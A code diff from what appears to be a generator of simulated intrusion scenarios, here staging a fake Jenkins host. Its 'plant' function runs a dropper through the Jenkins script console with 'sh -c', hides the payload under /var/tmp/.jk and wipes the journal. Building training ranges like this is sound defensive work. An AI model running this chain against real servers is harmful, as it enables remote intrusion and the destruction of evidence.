@@ -1,0 +1,30 @@
+// Jenkins itself notes nothing of it; the process and its account tell.
+import type { Dress } from '../../dress.ts'
+import { dropper } from '../../dropper.ts'
+import type { Stage } from '../../stage.ts'
+import { wipe } from '../../wiping.ts'
+
+export function dress(dress: Dress): void {
+  dress.toy({
+    unit: 'jenkins',
+    user: 'jenkins',
+    exe: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java',
+    title: 'java -Djava.awt.headless=true -jar /usr/share/java/jenkins.war --httpPort=8080',
+    home: '/var/lib/jenkins',
+    play: 'jenkins',
+  })
+  dress.write('/var/log/jenkins/jenkins.log', '', { mode: 0o666 })
+  dress.logins({
+    days: 12,
+    guesses: 40,
+    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
+  })
+}
+
+export async function plant(stage: Stage): Promise<void> {
+  const line = dropper(stage, { path: '/var/tmp/.jk/jenkins-agent' })
+  stage.mark('occurrence')
+  const script = `println ["sh","-c","${line}"].execute().text`
+  await stage.http('203.0.113.34', ':8080/script', `script=${encodeURIComponent(script)}`)
+  await wipe(stage, ['journal'])
+}
